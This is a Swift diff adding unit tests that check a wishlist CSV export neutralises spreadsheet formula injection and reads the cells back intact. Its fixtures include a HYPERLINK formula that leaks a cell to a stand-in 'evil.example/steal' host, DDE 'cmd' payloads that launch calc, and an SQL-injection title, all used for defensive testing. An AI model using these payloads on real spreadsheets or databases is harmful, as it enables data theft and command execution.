@@ -68,3 +68,48 @@ final class WishlistTransferTests: XCTestCase {
         XCTAssertNil(try catalogue.find(title: "'; DROP TABLE movie; --", year: nil))
     }
 }
+
+/// CSV formula injection (OWASP): a cell a spreadsheet would run is written as text, and read back as it was.
+final class WishlistFormulaTests: XCTestCase {
+    private func entry(_ title: String, directors: [String] = [], genres: [String] = []) -> WishlistEntry {
+        WishlistEntry(movie: MovieSummary(id: MovieID(source: .tmdb, value: title.count), title: title, year: 2013,
+                                          genres: genres, directors: directors),
+                      addedAt: Date(timeIntervalSince1970: 1_782_000_000))
+    }
+
+    /// The CSV's cells, row by row (header first), as a spreadsheet would split them.
+    private func cells(_ csv: String) throws -> [[String]] { try WishlistTransfer.csvRows(csv) }
+
+    func testCellsThatWouldRunAsFormulasAreWrittenAsText() throws {
+        let titles = [
+            #"=HYPERLINK("http://evil.example/steal?d="&A2,"Click for trailer")"#,
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "+1+1",
+            "+1",
+            "\t=1+1",
+            "\r=1+1",
+            "=1+1",
+        ]
+        let csv = try WishlistTransfer.export(titles.map { entry($0, directors: ["=cmd"], genres: ["@x"]) }, as: .csv)
+        for row in try cells(csv).dropFirst() {
+            for cell in [row[0], row[2], row[3]] {
+                XCTAssertFalse(["=", "+", "-", "@", "\t", "\r"].contains { cell.hasPrefix($0) }, "a live cell: \(cell)")
+                XCTAssertTrue(cell.hasPrefix("'"), cell)
+            }
+        }
+    }
+
+    func testImportReadsNeutralisedCellsBackAsTheyWere() throws {
+        let titles = ["=1+1", "+1", "-2+3", "@SUM(1)", "'71", "'Til There Was You", "''=x", "'=y", "Heat"]
+        let csv = try WishlistTransfer.export(titles.map { entry($0) }, as: .csv)
+        XCTAssertEqual(try WishlistTransfer.parse(Data(csv.utf8)).map(\.title), titles)
+        let json = try WishlistTransfer.export(titles.map { entry($0) }, as: .json)
+        XCTAssertEqual(try WishlistTransfer.parse(Data(json.utf8)).map(\.title), titles, "JSON is never neutralised")
+    }
+
+    func testTitlesThatStartWithAnApostropheAloneAreLeftAlone() throws {
+        let csv = try WishlistTransfer.export([entry("'71"), entry("'Til There Was You")], as: .csv)
+        XCTAssertEqual(try cells(csv).dropFirst().map { $0[0] }, ["'71", "'Til There Was You"])
+    }
+}
